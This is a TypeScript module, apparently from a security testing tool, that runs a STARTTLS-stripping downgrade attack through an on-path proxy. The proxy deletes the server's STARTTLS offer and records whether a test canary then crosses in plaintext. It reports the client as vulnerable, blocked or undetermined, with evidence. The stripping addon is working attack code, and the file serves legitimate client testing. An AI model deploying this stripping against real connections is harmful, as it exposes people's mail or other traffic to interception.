/**
 * `downgrade-starttls` against a target whose transport is `starttls`: STARTTLS stripping
 * (RFC 3207 §6 names the attack for SMTP; RFC 7817 §2.1 for any "opportunistic" upgrade). The
 * attacker sits on-path while the connection is still plaintext and deletes the upgrade offer —
 * the target's `server.starttls` line without its newline, e.g. `STARTTLS` — from everything the
 * server sends before a TLS ClientHello. Then it only watches.
 *
 * Verdict, from what was observed:
 *  - succeeded: the canary crossed the proxy readable, before any TLS (the evidence gives the
 *    connection, direction and the bytes around it);
 *  - blocked: the client refused to go on without TLS — it exited on its own before sending the
 *    canary (evidence: what it printed, its exit status), or it upgraded anyway (a ClientHello
 *    followed although the offer was gone) and the canary stayed inside TLS;
 *  - error (no verdict): the client neither sent the canary readable, nor refused, nor upgraded.
 */
import { findCanary, sightingEvidence } from '../kit/evidence.ts';
import type { ProxyAddon } from '../proxy.ts';
import type { Evidence } from '../types.ts';
import { programEvidence, targetProxyEvidence } from './evidence.ts';
import { lastLines } from './scenario.ts';
import type { TargetAttack } from './types.ts';

/** What the addon changed, per connection, for evidence. */
interface StripLog {
  /** greetings (or later plaintext) the offer was deleted from: before → after, printable */
  stripped: Array<{ conn: number; before: string; after: string }>;
  /** connections on which the client still sent the upgrade line */
  askedAnyway: number[];
}

const printable = (s: string, max = 120) => JSON.stringify(s.length > max ? `${s.slice(0, max)}…` : s);

/**
 * The proxy addon that deletes every occurrence of `offer` from the server's bytes while the
 * connection is still plaintext (no ClientHello yet), and notes a client that asks anyway.
 */
export function starttlsStripAddon(offer: string, log: StripLog): ProxyAddon {
  return {
    name: 'target-starttls-strip',
    onClientHello: () => ({ action: 'relay' }),
    onData(conn, data, dir, layer) {
      if (layer !== 'client-wire' || conn.record.clientHello) return undefined;
      const text = data.toString('latin1');
      if (dir === 'c2s') {
        if (text.split(/\r?\n/).some((l) => l.trim() === offer)) log.askedAnyway.push(conn.record.id);
        return undefined;
      }
      if (!text.includes(offer)) return undefined;
      const after = text.split(offer).join('');
      log.stripped.push({ conn: conn.record.id, before: text, after });
      conn.note(`removed "${offer}" from the server's plaintext`);
      return Buffer.from(after, 'latin1');
    },
  };
}

export const targetDowngradeStarttls: TargetAttack = {
  id: 'downgrade-starttls',
  applicability: (t) => (t.server.transport === 'starttls' ? null : `the target speaks ${t.server.transport} from the first byte: there is no STARTTLS offer to strip`),
  async run(ctx) {
    const offer = ctx.target.server.starttls!.trim();
    const log: StripLog = { stripped: [], askedAnyway: [] };
    const obs = await ctx.run({ addon: starttlsStripAddon(offer, log) });
    const engine = obs.proxy!.engine;
    const conns = obs.proxy!.connections;
    const sightings = findCanary(engine, ctx.canary, ['client-wire']);
    const upgraded = conns.filter((c) => c.clientHello);
    const stripStep = log.stripped.length
      ? `deleted "${offer}" from the server's greeting (${printable(log.stripped[0]!.before.trimEnd())} → ${printable(log.stripped[0]!.after.trimEnd())})`
      : `the server's plaintext never contained "${offer}": there was no offer to delete`;
    const evidence: Evidence[] = [
      { kind: 'attacker', detail: stripStep },
      ...log.stripped.slice(1).map((s) => ({ kind: 'attacker', detail: `connection ${s.conn}: deleted "${offer}" again (${printable(s.before.trimEnd())})` })),
      ...log.askedAnyway.map((id) => ({ kind: 'client-asked', detail: `connection ${id}: the client sent "${offer}" although the offer was deleted` })),
      ...upgraded.map((c) => ({ kind: 'tls', detail: `connection ${c.id}: the client started a TLS handshake (ClientHello of ${c.clientHello!.length} bytes) after the plaintext greeting` })),
      ...targetProxyEvidence(obs),
      ...programEvidence(obs),
    ];
    if (sightings.length) {
      const where = sightings.map((s) => `connection ${s.conn}, ${s.dir === 'c2s' ? 'client → server' : 'server → client'}`).join('; ');
      return {
        outcome: 'succeeded',
        reason: `${stripStep} → the client carried on without TLS and the canary crossed the proxy in plaintext (${where})${obs.delivered ? '; the server delivered it as usual' : ''}`,
        summary: 'canary read: STARTTLS stripped',
        impact: ['confidentiality', 'integrity'],
        evidence: [...evidence, ...sightingEvidence(sightings, ctx.canary)],
        negotiated: null,
        data: { stripped: log.stripped.length, upgraded: upgraded.length },
      };
    }
    // The client ended by itself (an exit status, not our stop signal) without sending the canary readable.
    const exitedItself = obs.client.exit && obs.client.exit.code !== null && upgraded.length === 0;
    if (exitedItself) {
      const said = lastLines(obs.client.stderr, 1) || lastLines(obs.client.output, 1) || '(nothing)';
      return {
        outcome: 'blocked',
        reason: `${stripStep} → the client refused to continue without TLS: it printed ${printable(said, 200)} and exited with status ${obs.client.exit!.code}; the canary never crossed the proxy`,
        summary: 'client refused: no STARTTLS',
        impact: [],
        evidence,
        negotiated: null,
        data: { stripped: log.stripped.length, upgraded: 0, exitCode: obs.client.exit!.code },
      };
    }
    if (upgraded.length) {
      return {
        outcome: 'blocked',
        reason: `${stripStep} → the client upgraded anyway (${log.askedAnyway.length ? `it sent "${offer}" and ` : ''}a TLS ClientHello followed on connection ${upgraded[0]!.id}): the canary stayed inside TLS and was never readable on the wire`,
        summary: 'client upgraded without the offer',
        impact: [],
        evidence,
        negotiated: null,
        data: { stripped: log.stripped.length, upgraded: upgraded.length },
      };
    }
    return {
      outcome: 'error',
      reason: `no verdict: ${stripStep}, but the client neither sent the canary readable, nor refused, nor started TLS (client said: ${lastLines(obs.client.output) || 'nothing'})`,
      summary: 'no verdict',
      impact: [],
      evidence,
      negotiated: null,
    };
  },
};
